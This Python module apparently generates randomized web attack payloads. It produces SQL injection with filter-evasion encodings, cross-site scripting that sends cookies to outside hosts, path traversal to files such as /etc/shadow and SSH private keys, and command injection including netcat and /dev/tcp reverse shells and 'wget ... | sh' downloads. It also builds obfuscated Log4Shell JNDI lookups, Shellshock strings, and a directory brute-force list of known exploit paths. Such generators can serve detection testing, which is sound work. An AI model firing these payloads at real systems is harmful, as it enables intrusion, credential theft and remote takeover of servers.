"""What attackers put into web requests, and how they disguise it."""
import base64, urllib.parse

PARAMETERS = "id", "q", "name", "user", "file", "page", "text", "limit", "sort", "token", "lang", "next"


def sql(dice):
    """SQL of all the usual kinds: boolean, UNION, by errors, by time, stacked."""
    number, word = dice.randint(1, 9999), dice.choice(("a", "Li", "x", "admin", "1", "-1", "O"))
    table = dice.choice(("users", "patients", "sqlite_master", "information_schema.tables", "mysql.user",
                         "pg_shadow"))
    column = dice.choice(("name", "password", "sql", "table_name", "name||':'||password",
                          "group_concat(name)", "@@version"))
    quote = dice.choice(("'", "'", "'", '"', "", "')", "%'"))
    end = dice.choice(("-- -", "--", "#", "/*", "-- x", ";--", ""))
    nulls = ",".join(dice.choice(("NULL", str(number))) for _ in range(dice.randint(1, 8)))
    return dice.choice((
        f"{word}{quote} OR {number}={number}{end}", f"{word}{quote} OR 'a'='a",
        f"{word}{quote} AND {number}={number + 1}{end}",
        f"{word}{quote} UNION SELECT {column},{nulls} FROM {table}{end}",
        f"{word}{quote} UNION ALL SELECT {nulls}{end}",
        f"{word}{quote} ORDER BY {dice.randint(1, 30)}{end}", f"{word}{quote}; DROP TABLE {table}{end}",
        f"{word}{quote}{end}",
        f"{word}{quote}; INSERT INTO {table} VALUES ({nulls}){end}",
        f"{word}{quote}; EXEC xp_cmdshell('dir {word}'){end}",
        f"{word}{quote} AND (SELECT COUNT(*) FROM {table})>{number}{end}",
        f"{word}{quote} AND SLEEP({dice.randint(1, 9)}){end}",
        f"{word}{quote}; WAITFOR DELAY '0:0:{dice.randint(1, 9)}'{end}",
        f"{word}{quote} AND pg_sleep({dice.randint(1, 9)}){end}",
        f"{word}{quote} AND randomblob({number}00000) AND {quote}1{quote}={quote}1",
        f"{word}{quote} AND ASCII(SUBSTR((SELECT {column} FROM {table}),{number % 9},1))>{number % 99}{end}",
        f"{word}{quote} AND extractvalue({number},concat(0x7e,{column})){end}",
        f"{word}{quote} HAVING {number}={number}{end}",
        f"(SELECT CASE WHEN ({number}={number}) THEN 1 ELSE 1*(SELECT {number} FROM {table}) END)",
        f"{word}{quote} PROCEDURE ANALYSE(EXTRACTVALUE({number},CONCAT(0x5c,{column})),1){end}"))


def sql_disguised(dice):
    """The same as filters are meant to miss it, ready for a request."""
    text, style = sql(dice), dice.randrange(8)
    if style == 0:
        text = text.replace(" ", dice.choice(("/**/", "/*x*/", "\t", "\n", "\x0b")))
    elif style == 1:
        text = "".join(dice.choice((letter.lower(), letter.upper())) for letter in text)
    elif style == 2:
        for word in ("UNION", "SELECT", "AND", "OR"):
            text = text.replace(f"{word} ", f"/*!{word}*/ ")
    return disguised(text, dice)


def disguised(text, dice):
    """Percent-encoding (RFC 3986) of what must be, of all, twice, or with plus for blanks."""
    style = dice.randrange(6)
    if style == 0:
        return "".join(f"%{byte:02{dice.choice('xX')}}" for byte in text.encode())
    if style == 1:
        return urllib.parse.quote(urllib.parse.quote(text, safe=""), safe="")
    if style == 2:
        return urllib.parse.quote_plus(text)
    return urllib.parse.quote(text, safe=dice.choice(("", "'()*,/:;=", "'(),-./:;=?@!*")))


def scripts(dice):
    """Cross-site scripting."""
    code = dice.choice((f"alert({dice.randrange(99)})", "alert(document.cookie)", "confirm`1`", "prompt(1)",
                        "eval(name)",
                        f"fetch('//{dice.randrange(256)}.0.2.1/?'+document.cookie)",
                        "new Image().src='//e.example/'+document.cookie"))
    tag, event = dice.choice(("img", "svg", "body", "video", "input", "details", "iframe")), dice.choice((
        "onerror", "onload", "onfocus", "ontoggle", "onmouseover"))
    return dice.choice((
        f"<script>{code}</script>", f"\"><script>{code}</script>", f"<{tag} src=x {event}={code}>",
        f"<{tag}/{event}={code}>",
        f"'-{code}-'", f"javascript:{code}", f"<ScRiPt>{code}</sCrIpT>",
        f"<a href=\"javascript:{code}\">x</a>",
        f"<script>eval(atob('{base64.b64encode(code.encode()).decode()}'))</script>",
        f"<scr<script>ipt>{code}</script>",
        f"<script src=//e.example/{_mark(dice)}.js></script>",
        f"{{{{constructor.constructor('{code}')()}}}}"))


def _mark(dice):
    return f"{dice.getrandbits(24):x}"


def paths(dice):
    """Files that a web server must not give away, by way of `..` and its disguises; ready for a request."""
    up = dice.choice(("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "....//", "..\\", "..%5c",
                      "/%2e%2e/", "..%c0%af", "..;/", "%252e%252e%252f")) * dice.randint(2, 10)
    start = dice.choice(("", "", "/", "file://", "php://filter/convert.base64-encode/resource="))
    return start + up + dice.choice((
        "etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "proc/self/environ", "boot.ini", ".env",
        "var/log/auth.log", "root/.ssh/id_rsa", "WEB-INF/web.xml", "var/www/html/config.php",
        "etc/passwd%00", "etc/passwd%00.jpg", "etc/passwd?"))


def commands(dice):
    """Shell commands after what a script expects."""
    there = f"{dice.randint(1, 223)}.{dice.randrange(256)}.{dice.randrange(256)}.{dice.randrange(1, 255)}"
    command = dice.choice(("id", "whoami", "cat /etc/passwd", "uname -a", f"ping -c 3 {there}",
                           f"nc -e /bin/sh {there} 4444",
                           f"wget http://{there}/{_mark(dice)}.sh -O- | sh", f"curl -s {there}/x|bash",
                           "sleep 5",
                           f"bash -i >& /dev/tcp/{there}/{dice.randint(1024, 65535)} 0>&1",
                           "busybox wget x; chmod 777 x; ./x"))
    return dice.choice((f";{command}", f"|{command}", f"||{command}", f"&&{command}", f"`{command}`",
                        f"$({command})",
                        f"127.0.0.1;{command}", f"x\n{command}", f"{{{{7*{dice.randint(2, 9)}}}}}",
                        f"';{command};'",
                        f"<?php system('{command}'); ?>", f"${{@print(system(\"{command}\"))}}",
                        f";{command.replace(' ', '${IFS}')}"))


def lookups(dice):
    """JNDI look-ups as in CVE-2021-44228, plain or nested."""
    letters = dice.choice(("jndi", "${lower:j}ndi", "${lower:j}${lower:n}${lower:d}i",
                           "${::-j}${::-n}${::-d}${::-i}", "j${k8s:k5:-ND}i",
                           "${env:X:-j}ndi", "jn${date:'d'}i"))
    where = dice.choice((f"{dice.randint(1, 223)}.{dice.randrange(256)}.0.{dice.randrange(1, 255)}",
                         "e.example",
                         "${hostName}.e.example"))
    protocol = dice.choice(("ldap", "ldaps", "rmi", "dns", "${lower:l}dap"))
    port = dice.choice(("", ":1389", ":1099"))
    what = dice.choice(("a", "Exploit", "Basic/Command/Base64/aWQ="))
    return f"${{{letters}:{protocol}://{where}{port}/{what}{_mark(dice)}}}"


def functions(dice):
    """Shellshock, CVE-2014-6271."""
    start = dice.choice(("() { :;};", "() { :; };", "() { ignored; };", "() { _; } >_[$($())] {"))
    command = dice.choice(("cat /etc/passwd", "bash -c id", "ping -c1 x", "uname"))
    return f"{start} {dice.choice(('echo;', '', 'echo vulnerable;'))} /bin/{command}"


WORDS = ("admin backup old test dev api config private secret db sql dump data upload files images js css "
         "cgi-bin phpmyadmin login wp-admin wp-login wp-content console manager jenkins git svn env "
         "status server-status info phpinfo shell cmd report reports patients records pacs dicom hl7 fhir "
         "viewer export import archive logs log tmp temp cache include lib vendor node_modules user users "
         "account accounts system debug actuator health metrics swagger graphql v1 v2 rest soap wsdl "
         "robots sitemap").split()
ENDINGS = ("", "", "/", ".php", ".html", ".bak", ".zip", ".tar.gz", ".old", ".asp", ".jsp", ".txt", ".json",
           ".sql",
           "~", ".xml")
KNOWN = ("/.git/HEAD", "/.env", "/.svn/entries", "/.htaccess", "/.DS_Store", "/cgi-bin/test.cgi",
         "/manager/html", "/actuator/env",
         "/phpmyadmin/index.php", "/server-status", "/wp-login.php", "/solr/admin/info/system",
         "/boaform/admin/formLogin",
         "/HNAP1/", "/owa/auth/logon.aspx", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
         "/cgi-bin/luci",
         "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id", "/shell?cd+/tmp;rm+-rf+*;wget+x", "/console/",
         "/axis2/", "/.aws/credentials",
         "/_ignition/execute-solution", "/autodiscover/autodiscover.xml", "/cgi-bin/.%2e/.%2e/bin/sh",
         "/index.php?s=/Index/%5Cthink%5Capp")


def names(dice, count):
    """Paths that a brute-forcer of directories tries."""
    return [f"/{dice.choice(WORDS)}{dice.choice(ENDINGS)}" if dice.random() < 0.8 else
            f"/{dice.choice(WORDS)}/{dice.choice(WORDS)}{dice.choice(ENDINGS)}" for _ in range(count)]
